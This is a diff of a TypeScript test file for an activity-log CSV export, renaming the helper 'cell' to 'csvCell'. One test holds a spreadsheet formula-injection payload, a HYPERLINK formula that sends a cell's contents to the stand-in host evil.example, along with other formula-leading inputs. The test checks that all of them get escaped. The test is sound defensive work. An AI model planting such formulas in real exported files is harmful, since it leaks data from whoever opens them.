@@ -5,7 +5,7 @@ import { type ActivityFilter, emptyFilter, formattedDetails, isDay } from "#app/
 import { activityCsv } from "#app/domain/activity/activity-csv.server.ts";
 import { eventsByDay } from "#app/domain/activity/activity-days.server.ts";
 import { clearActivity, countActivity, listActivity, searchActivity } from "#app/domain/activity/activity-log.server.ts";
-import { cell } from "#app/domain/core/csv-cells.ts";
+import { csvCell } from "#app/domain/core/csv-cells.ts";
 import type { Member } from "#app/domain/core/member.ts";
 import { operation } from "#app/domain/core/operation.server.ts";
 import { db } from "#db/client.server.ts";
@@ -267,9 +267,10 @@ describe("the CSV file", () => {
 
   test("text that a spreadsheet program would run as a formula starts with an apostrophe", () => {
     const attack = '=HYPERLINK("http://evil.example?"&A1,"ok")';
-    expect(cell(attack)).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
-    for (const text of ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"]) expect(cell(text).slice(0, 2), text).toBe(`"'`);
-    expect([cell("Anna = Ben"), cell(-3), cell(null)]).toEqual(['"Anna = Ben"', "-3", ""]);
+    expect(csvCell(attack)).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
+    for (const text of ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
+      expect(csvCell(text).slice(0, 2), text).toBe(`"'`);
+    expect([csvCell("Anna = Ben"), csvCell(-3), csvCell(null)]).toEqual(['"Anna = Ben"', "-3", ""]);
   });
 
   test("follows the filter, newest first, and contains at most 10,000 entries", async () => {
